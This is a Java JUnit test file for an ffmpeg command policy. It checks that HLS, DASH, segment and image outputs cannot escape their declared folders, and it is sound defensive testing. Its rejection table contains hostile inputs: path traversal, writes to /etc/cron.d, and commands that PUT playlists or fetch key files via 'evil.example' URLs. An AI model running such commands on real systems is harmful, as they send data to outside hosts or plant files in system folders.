package io.ffmpegqueue.ffmpeg;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ffmpegqueue.InvalidTaskException;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The command policy for HLS, DASH, segment and image-sequence outputs: every file they write must be declared. */
class MediaOutputPolicyTest {
  private static final CommandPolicy STRICT = CommandPolicy.strict();
  private static final String HLS = "-i in.mp4 -c:v libx264 -f hls -hls_time 2 ";
  private static final String LADDER = "-i in.mp4 -map 0:v -map 0:v -map 0:v -f hls -var_stream_map 'v:0 v:1 v:2' ";
  private static final String DASH = "-i in.mp4 -c:v libx264 -f dash ";

  private static Arguments c(String command, String outputs, String reason) {
    return Arguments.of(command, new LinkedHashSet<>(List.of(outputs.split(","))), reason);
  }

  static Stream<Arguments> hostileCommands() {
    return Stream.of(
        // HLS: the playlist itself.
        c(HLS + "/tmp/hls/index.m3u8", "hls/", "'/tmp/hls/index.m3u8' is an absolute path"),
        c(HLS + "hls/../index.m3u8", "hls/", "climbs out of its folder with '..'"),
        c(HLS + "file:hls/index.m3u8", "hls/", "uses the protocol 'file:'"),
        c(HLS + "other/index.m3u8", "hls/", "'other/index.m3u8' is outside the declared outputs"),
        c(HLS + "index.m3u8", "index.m3u8", "must lie inside a declared folder"),
        c("-i in.mp4 -f hls -method PUT http://evil.example/live.m3u8", "hls/", "uses the protocol 'http:'"),
        // HLS: -hls_segment_filename, relative to the working folder.
        c(HLS + "-hls_segment_filename /tmp/seg_%03d.ts hls/index.m3u8", "hls/", "'-hls_segment_filename /tmp/seg_%03d.ts'"),
        c(HLS + "-hls_segment_filename ../seg_%03d.ts hls/index.m3u8", "hls/", "climbs out of its folder with '..'"),
        c(HLS + "-hls_segment_filename hls/../../seg_%03d.ts hls/index.m3u8", "hls/", "climbs out"),
        c(HLS + "-hls_segment_filename file:seg_%03d.ts hls/index.m3u8", "hls/", "uses the protocol 'file:'"),
        c(HLS + "-hls_segment_filename seg_%03d.ts hls/index.m3u8", "hls/", "'seg_%03d.ts' is outside the declared outputs"),
        c(HLS + "-hls_segment_filename 'hls/seg_%s.ts' hls/index.m3u8", "hls/", "is not a relative file name"),
        c(HLS + "-hls_segment_filename 'hls/%d/%d.ts' hls/index.m3u8", "hls/", "is not a relative file name"),
        // HLS: names joined to the playlist's folder.
        c(HLS + "-master_pl_name /tmp/master.m3u8 hls/index.m3u8", "hls/", "'/tmp/master.m3u8' is an absolute path"),
        c(HLS + "-master_pl_name ../master.m3u8 hls/index.m3u8", "hls/", "'-master_pl_name ../master.m3u8'"),
        c(HLS + "-master_pl_name http://evil.example/m.m3u8 hls/index.m3u8", "hls/", "uses the protocol 'http:'"),
        c(HLS + "-hls_segment_type fmp4 -hls_fmp4_init_filename /tmp/init.mp4 hls/index.m3u8", "hls/", "is an absolute path"),
        c(HLS + "-hls_segment_type fmp4 -hls_fmp4_init_filename ../init.mp4 hls/index.m3u8", "hls/", "climbs out"),
        c(HLS + "-hls_segment_type fmp4 -hls_segment_filename out/s_%d.m4s -hls_fmp4_init_filename init.mp4 hls/i.m3u8",
            "hls/", "'out/s_%d.m4s' is outside the declared outputs"),
        // HLS ladders: every %v expansion.
        c(LADDER + "hls/%v/../../x/index.m3u8", "hls/", "'hls/0/../../x/index.m3u8' climbs out"),
        c(LADDER.replace("v:2'", "v:2,name:..'") + "hls/%v/index.m3u8", "hls/", "the variant name '..' is not a bare file name"),
        c(LADDER.replace("v:2'", "v:2,name:/tmp'") + "hls/%v/index.m3u8", "hls/", "'/tmp' is a path"),
        c(HLS + "hls/%v/index.m3u8", "hls/", "uses '%v' without -var_stream_map"),
        c(LADDER + "-hls_segment_filename '%v/seg_%d.ts' hls/%v/index.m3u8", "hls/", "'0/seg_%d.ts' is outside"),
        // Files HLS would read.
        c(HLS + "-hls_key_info_file /tmp/key.info hls/index.m3u8", "hls/", "'-hls_key_info_file /tmp/key.info': the key info file must be a declared input"),
        c(HLS + "-hls_key_info_file ../key.info hls/index.m3u8", "hls/", "'-hls_key_info_file ../key.info': the key info file must be a declared input"),
        c(HLS + "-hls_key_info_file other.info hls/index.m3u8", "hls/", "'other.info' is not a declared input"),
        c(HLS + "-hls_key_info_file http://evil.example/key.info hls/index.m3u8", "hls/", "uses the protocol 'http:'"),
        c(HLS + "-hls_key_info_file hls/index.m3u8 hls/index.m3u8", "hls/", "'-hls_key_info_file hls/index.m3u8'"),
        c("-hls_key_info_file key.info -i in.mp4 -f hls hls/index.m3u8", "hls/", "must stand before that output"),
        c(HLS + "-hls_subtitle_path /tmp/subs hls/index.m3u8", "hls/", "'-hls_subtitle_path /tmp/subs'"),
        c(HLS + "-strftime 1 -hls_segment_filename 'hls/%Y.ts' hls/index.m3u8", "hls/", "names output files by the clock"),
        c(HLS + "-use_localtime_mkdir 1 hls/index.m3u8", "hls/", "names output files by the clock"),
        // DASH: the manifest and its templates.
        c(DASH + "/tmp/dash/manifest.mpd", "dash/", "'/tmp/dash/manifest.mpd' is an absolute path"),
        c(DASH + "manifest.mpd", "manifest.mpd", "must lie inside a declared folder"),
        c(DASH + "-init_seg_name '../init-$RepresentationID$.m4s' dash/manifest.mpd", "dash/", "climbs out"),
        c(DASH + "-media_seg_name '/tmp/c-$Number%05d$.m4s' dash/manifest.mpd", "dash/", "is an absolute path"),
        c(DASH + "-media_seg_name 'c-$Nmuber$.m4s' dash/manifest.mpd", "dash/", "only the identifiers"),
        c(DASH + "-single_file_name 'http://evil.example/x' dash/manifest.mpd", "dash/", "'-single_file_name http://evil.example/x'"),
        c(DASH + "-hls_playlist 1 -hls_master_name ../master.m3u8 dash/manifest.mpd", "dash/", "climbs out"),
        // The segment muxer and image sequences.
        c("-i in.mp4 -f segment -segment_time 2 /tmp/seg_%03d.ts", "seg_%03d.ts", "'/tmp/seg_%03d.ts' is an absolute path"),
        c("-i in.mp4 -f segment -segment_time 2 seg_%d.ts", "seg_%03d.ts", "'seg_%d.ts' is outside the declared outputs"),
        c("-i in.mp4 -f segment -segment_list /tmp/list.m3u8 seg_%03d.ts", "seg_%03d.ts", "'-segment_list /tmp/list.m3u8'"),
        c("-i in.mp4 -f segment -segment_list list.m3u8 seg_%03d.ts", "seg_%03d.ts", "'list.m3u8' is outside the declared outputs"),
        c("-i in.mp4 -f segment -strftime 1 'seg_%Y%m%d.ts'", "seg_%03d.ts", "names output files by the clock"),
        c("-i in.mp4 -f stream_segment ../seg_%03d.ts", "seg_%03d.ts", "climbs out"),
        c("-i in.mp4 -vf fps=1 ../thumb_%03d.jpg", "thumb_%03d.jpg", "climbs out"),
        c("-i in.mp4 -vf fps=1 thumbs/%03d.jpg", "thumb_%03d.jpg", "'thumbs/%03d.jpg' is outside the declared outputs"),
        c("-i in.mp4 -vf fps=1 -f image2 'thumb_%03d_%d.jpg'", "thumb_%03d.jpg", "is not a relative file name"),
        // Options in the wrong place, or for another muxer.
        c("-hls_segment_filename /tmp/x_%d.ts -i in.mp4 hls/index.m3u8", "hls/", "must stand before that output"),
        c("-i in.mp4 -segment_list /etc/cron.d/x -f mp4 out.mp4", "out.mp4", "names a file, and is an option of the"),
        c("-i in.mp4 -f tee 'hls/a.mp4|/tmp/b.mp4'", "hls/", "the muxer 'tee' writes files the task does not declare"),
        c("-i in.mp4 -f mp4 hls/../../etc/out.mp4", "hls/", "climbs out"));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("hostileCommands")
  void a_media_output_that_could_write_outside_its_declared_outputs_is_refused(String command, Set<String> outputs,
      String reason) {
    assertThatThrownBy(() -> STRICT.check(FfmpegCommand.parse(command), Set.of("in.mp4", "key.info"), outputs))
        .isInstanceOf(InvalidTaskException.class)
        .satisfies(e -> assertThat(((InvalidTaskException) e).field()).isEqualTo("command"))
        .hasMessageContaining(reason);
  }

  @Test
  void the_hostile_media_table_has_at_least_twenty_five_commands() {
    assertThat(hostileCommands().count()).isGreaterThanOrEqualTo(25);
  }

  static Stream<Arguments> acceptedCommands() {
    return Stream.of(
        c(HLS + "-hls_playlist_type vod hls/index.m3u8", "hls/", ""),
        c(HLS + "-hls_segment_filename 'hls/seg_%03d.ts' hls/index.m3u8", "hls/index.m3u8,hls/", ""),
        c(LADDER + "-hls_segment_filename 'hls/%v/seg_%03d.ts' -master_pl_name master.m3u8 hls/%v/index.m3u8",
            "hls/master.m3u8,hls/", ""),
        c(LADDER.replace("v:0 v:1 v:2", "v:0,name:low v:1,name:mid v:2,name:high")
            + "-hls_segment_filename 'hls/%v_%03d.ts' -master_pl_name master.m3u8 hls/%v.m3u8", "hls/", ""),
        c(HLS + "-hls_segment_type fmp4 -hls_fmp4_init_filename init.mp4 -hls_segment_filename 'hls/s_%d.m4s' hls/i.m3u8",
            "hls/", ""),
        c(DASH + "-seg_duration 2 -init_seg_name 'init-$RepresentationID$.$ext$' "
            + "-media_seg_name 'chunk-$RepresentationID$-$Number%05d$.$ext$' dash/manifest.mpd", "dash/manifest.mpd,dash/", ""),
        c(DASH + "-hls_playlist 1 -hls_master_name master.m3u8 dash/manifest.mpd", "dash/", ""),
        c("-i in.mp4 -c copy -f segment -segment_time 2 -segment_list seg.m3u8 seg_%03d.ts", "seg_%03d.ts,seg.m3u8", ""),
        c("-i in.mp4 -c copy -f segment -segment_time 2 -segment_list segs/list.m3u8 segs/seg_%05d.ts", "segs/", ""),
        c("-i in.mp4 -vf fps=1/2 -q:v 3 thumb_%03d.jpg", "thumb_%03d.jpg", ""),
        c("-i in.mp4 -vf fps=1 -f image2 thumbs/t_%d.png", "thumbs/", ""),
        c("-i in.mp4 -vf fps=1 thumb_%04d.jpg -c:v libx264 out.mp4", "out.mp4,thumb_%03d.jpg", ""));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("acceptedCommands")
  void a_media_output_inside_its_declared_outputs_is_accepted(String command, Set<String> outputs, String unused) {
    assertThatCode(() -> STRICT.check(FfmpegCommand.parse(command), Set.of("in.mp4"), outputs)).doesNotThrowAnyException();
  }

  @Test
  void a_declared_folder_or_pattern_the_command_never_writes_is_refused() {
    assertThatThrownBy(() -> STRICT.check(FfmpegCommand.parse("-i in.mp4 out.mp4"), Set.of("in.mp4"),
        Set.of("out.mp4", "hls/"))).hasMessageContaining("declared output 'hls/' is not written");
    assertThatThrownBy(() -> STRICT.check(FfmpegCommand.parse(HLS + "hls/index.m3u8"), Set.of("in.mp4"),
        Set.of("hls/", "hls/master.m3u8"))).hasMessageContaining("declared output 'hls/master.m3u8' is not written");
  }

  @Test
  void a_key_info_file_that_is_a_declared_input_is_accepted() {
    assertThatCode(() -> STRICT.check(FfmpegCommand.parse(HLS + "-hls_key_info_file key.info hls/index.m3u8"),
        Set.of("in.mp4", "key.info", "enc.key"), Set.of("hls/"))).doesNotThrowAnyException();
  }

  @Test
  void a_command_reads_files_inside_a_declared_folder_input_and_nothing_else() {
    Set<String> inputs = Set.of("hls/", "in.mp4");
    assertThatCode(() -> STRICT.check(FfmpegCommand.parse("-i hls/index.m3u8 -c copy out.mp4"), inputs,
        Set.of("out.mp4"))).doesNotThrowAnyException();
    assertThatCode(() -> STRICT.check(FfmpegCommand.parse("-i hls/720p/seg_001.ts -c copy out.mp4"), inputs,
        Set.of("out.mp4"))).doesNotThrowAnyException();
    for (String hostile : List.of("-i hls/ out.mp4", "-i hls/../in.mp4 out.mp4", "-i other/index.m3u8 out.mp4",
        "-i /tmp/hls/index.m3u8 out.mp4", "-i file:hls/index.m3u8 out.mp4", "-f hls -i hls/index.m3u8 out.mp4",
        "-i in.mp4 -vf movie=hls/seg_000.ts out.mp4", "-i hls/index.m3u8 -c copy hls/out.mp4")) {
      assertThatThrownBy(() -> STRICT.check(FfmpegCommand.parse(hostile), inputs, Set.of("out.mp4")))
          .as(hostile).isInstanceOf(InvalidTaskException.class);
    }
  }
}
